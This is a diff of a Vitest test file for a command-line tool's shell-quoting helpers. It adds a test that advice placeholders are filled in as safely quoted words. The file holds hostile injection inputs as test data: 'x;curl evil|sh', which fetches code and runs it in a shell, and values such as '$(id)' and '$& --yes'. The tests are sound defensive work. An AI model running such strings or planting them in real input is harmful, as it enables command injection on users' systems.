@@ -1,6 +1,6 @@
 import { execFileSync } from "node:child_process";
 import { expect, test } from "vitest";
-import { commandLine } from "../../src/core/command-line.ts";
+import { commandLine, filledAdvice } from "../../src/core/command-line.ts";
 
 const hostile = [
   "x;curl evil|sh",
@@ -52,4 +52,15 @@ test("a value that is undefined is left out with its flag, and a list is its wor
     "browserctl login --base-url http://a",
   );
   expect(commandLine`login ${["--field", "a b=-"]}`).toBe("browserctl login --field 'a b=-'");
+});
+
+test("placeholders of an advice are filled in as words, and stay without a value", () => {
+  const advice = "Store it: browserctl credentials update <name> --value <field>=- --id <id>";
+  expect(filledAdvice(advice, { name: "$(id)", id: "$& --yes" })).toBe(
+    "Store it: browserctl credentials update '$(id)' --value <field>=- --id '$& --yes'",
+  );
+  expect(filledAdvice(advice, { name: undefined, id: "--yes" })).toBe(
+    "Store it: browserctl credentials update <name> --value <field>=- --id=--yes",
+  );
+  expect(filledAdvice("Nothing to do.", { name: undefined })).toBe("Nothing to do.");
 });
